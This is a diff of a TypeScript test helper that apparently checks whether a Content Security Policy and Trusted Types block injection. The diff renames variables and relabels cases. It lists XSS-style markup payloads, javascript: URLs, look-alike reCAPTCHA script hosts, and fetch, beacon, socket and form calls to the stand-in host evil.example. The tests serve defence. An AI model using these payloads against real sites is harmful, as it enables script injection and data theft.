@@ -8,40 +8,41 @@ type WithTrustedTypes = {
  */
 const injections = (): Record<string, () => unknown> => {
   const handler = '<img src="/x" onerror="ran()">';
-  const outside = 'https://evil.example';
-  const make = <Name extends keyof HTMLElementTagNameMap>(name: Name) => document.createElement(name);
+  const externalOrigin = 'https://evil.example';
+  const create = <Name extends keyof HTMLElementTagNameMap>(name: Name) => document.createElement(name);
   const add = <Node extends HTMLElement>(node: Node) => document.body.appendChild(node);
   /** Assigns text to a property that accepts trusted values only; the types reject it as well. */
-  const put = (node: object, name: string, text: string) => Reflect.set(node, name, text);
+  const assign = (node: object, name: string, text: string) => Reflect.set(node, name, text);
   const withScript = (name: string, text: string) => {
-    const script = make('script');
-    put(script, name, text);
+    const script = create('script');
+    assign(script, name, text);
     add(script);
   };
-  const fetched = (address: string) => () => withScript('src', address);
+  const loadScript = (url: string) => () => withScript('src', url);
   return {
-    'markup: innerHTML': () => put(add(make('div')), 'innerHTML', handler),
-    'markup: outerHTML': () => put(add(make('div')), 'outerHTML', handler),
+    'markup: innerHTML': () => assign(add(create('div')), 'innerHTML', handler),
+    'markup: outerHTML': () => assign(add(create('div')), 'outerHTML', handler),
     'markup: insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', handler),
-    'markup: setHTMLUnsafe': () => add(make('div')).setHTMLUnsafe(handler),
-    'markup: shadow root': () => put(add(make('div')).attachShadow({ mode: 'open' }), 'innerHTML', handler),
+    'markup: setHTMLUnsafe': () => add(create('div')).setHTMLUnsafe(handler),
+    'markup: shadow root': () =>
+      assign(add(create('div')).attachShadow({ mode: 'open' }), 'innerHTML', handler),
     'markup: document.write': () => document.write(handler),
-    'markup: srcdoc': () => put(add(make('iframe')), 'srcdoc', '<script>parent.ran()</script>'),
+    'markup: srcdoc': () => assign(add(create('iframe')), 'srcdoc', '<script>parent.ran()</script>'),
     'markup: DOMParser': () => new DOMParser().parseFromString(handler, 'text/html'),
     'markup: a fragment of a range': () => document.createRange().createContextualFragment(handler),
-    'script: another host': fetched(`${outside}/x.js`),
-    'script: a host that looks alike': fetched('https://www.google.com.evil.example/recaptcha/api.js'),
-    'script: a host as a name of a user': fetched('https://www.google.com@evil.example/recaptcha/api.js'),
-    'script: another path of the bot check’s host': fetched('https://www.google.com/recaptcha/../jsapi'),
-    'script: no encryption': fetched('http://www.google.com/recaptcha/api.js'),
-    'script: a file of our own, named by a text': fetched('/sw.js?callback=ran'),
-    'script: data': fetched('data:text/javascript,ran()'),
-    'script: a blob': () => fetched(URL.createObjectURL(new Blob(['ran()'])))(),
+    'script: another host': loadScript(`${externalOrigin}/x.js`),
+    'script: a host that looks alike': loadScript('https://www.google.com.evil.example/recaptcha/api.js'),
+    'script: a host as a name of a user': loadScript('https://www.google.com@evil.example/recaptcha/api.js'),
+    'script: another path of the reCAPTCHA host': loadScript('https://www.google.com/recaptcha/../jsapi'),
+    'script: no encryption': loadScript('http://www.google.com/recaptcha/api.js'),
+    'script: a file of our own, named by a text': loadScript('/sw.js?callback=ran'),
+    'script: data': loadScript('data:text/javascript,ran()'),
+    'script: a blob': () => loadScript(URL.createObjectURL(new Blob(['ran()'])))(),
     'script: text': () => withScript('text', 'ran()'),
     'script: textContent': () => withScript('textContent', 'ran()'),
     'script: innerText': () => withScript('innerText', 'ran()'),
     'script: a text node': () => {
-      const script = make('script');
+      const script = create('script');
       script.append('ran();document.currentScript.remove()');
       // The browser reports no violation for this one: the script just does not run.
       if (add(script).isConnected) throw new Error('It did not run.');
@@ -51,57 +52,57 @@ const injections = (): Record<string, () => unknown> => {
     'code: setTimeout': () => Reflect.apply(window.setTimeout, window, ['ran()']),
     'code: setInterval': () => Reflect.apply(window.setInterval, window, ['ran()']),
     'code: a handler': () => {
-      const node = add(make('button'));
+      const node = add(create('button'));
       node.setAttribute('onclick', 'ran()');
       node.click();
     },
-    'code: an address of a link': () => {
-      const link = add(make('a'));
+    'code: the URL of a link': () => {
+      const link = add(create('a'));
       link.href = ['java', 'script:ran()'].join('');
       link.click();
     },
-    'code: an address of a frame': () => {
-      const frame = make('iframe');
+    'code: the URL of a frame': () => {
+      const frame = create('iframe');
       frame.src = ['java', 'script:parent.ran()'].join('');
       add(frame);
     },
     'code: import of data': () => import(['data:text/javascript', 'ran()'].join(',')),
-    'code: import from another host': () => import(`${outside}/x.js`),
-    'worker: another host': () => new Worker(`${outside}/x.js`),
+    'code: import from another host': () => import(`${externalOrigin}/x.js`),
+    'worker: another host': () => new Worker(`${externalOrigin}/x.js`),
     'worker: data': () => new Worker('data:text/javascript,ran()'),
     'worker: shared': () => new SharedWorker('data:text/javascript,ran()'),
     'worker: service worker of another name': () => navigator.serviceWorker.register('/evil.js'),
     'policy: one more': () =>
       (window as unknown as WithTrustedTypes).trustedTypes.createPolicy('default', { createHTML: String }),
-    'out: fetch': () => fetch(`${outside}/?a`),
-    'out: beacon': () => navigator.sendBeacon(`${outside}/?a`),
-    'out: picture': () => put(add(make('img')), 'src', `${outside}/a.png`),
+    'out: fetch': () => fetch(`${externalOrigin}/?a`),
+    'out: beacon': () => navigator.sendBeacon(`${externalOrigin}/?a`),
+    'out: image': () => assign(add(create('img')), 'src', `${externalOrigin}/a.png`),
     'out: socket': () => new WebSocket('wss://evil.example'),
-    'out: events': () => new EventSource(`${outside}/a`),
+    'out: events': () => new EventSource(`${externalOrigin}/a`),
     'out: form': () => {
-      const frame = add(make('iframe'));
+      const frame = add(create('iframe'));
       frame.name = 'outside';
-      const form = add(make('form'));
+      const form = add(create('form'));
       form.target = frame.name;
-      form.action = outside;
+      form.action = externalOrigin;
       form.submit();
     },
-    'in: frame': () => put(add(make('iframe')), 'src', outside),
-    'in: object': () => put(add(make('object')), 'data', `${outside}/x.swf`),
-    'in: embed': () => put(add(make('embed')), 'src', `${outside}/x.swf`),
-    'in: style': () => add(make('style')).append('body{display:none}'),
+    'in: frame': () => assign(add(create('iframe')), 'src', externalOrigin),
+    'in: object': () => assign(add(create('object')), 'data', `${externalOrigin}/x.swf`),
+    'in: embed': () => assign(add(create('embed')), 'src', `${externalOrigin}/x.swf`),
+    'in: style': () => add(create('style')).append('body{display:none}'),
     'in: style sheet': () => {
-      const link = make('link');
+      const link = create('link');
       link.rel = 'stylesheet';
-      link.href = `${outside}/x.css`;
+      link.href = `${externalOrigin}/x.css`;
       add(link);
     },
     'in: style attribute': () => document.body.setAttribute('style', 'display:none'),
-    'in: font': () => new FontFace('evil', `url(${outside}/x.woff2)`).load(),
-    'in: video': () => put(add(make('video')), 'src', `${outside}/x.mp4`),
+    'in: font': () => new FontFace('evil', `url(${externalOrigin}/x.woff2)`).load(),
+    'in: video': () => assign(add(create('video')), 'src', `${externalOrigin}/x.mp4`),
     'in: base': () => {
-      const base = make('base');
-      base.href = outside;
+      const base = create('base');
+      base.href = externalOrigin;
       document.head.append(base);
     },
   };
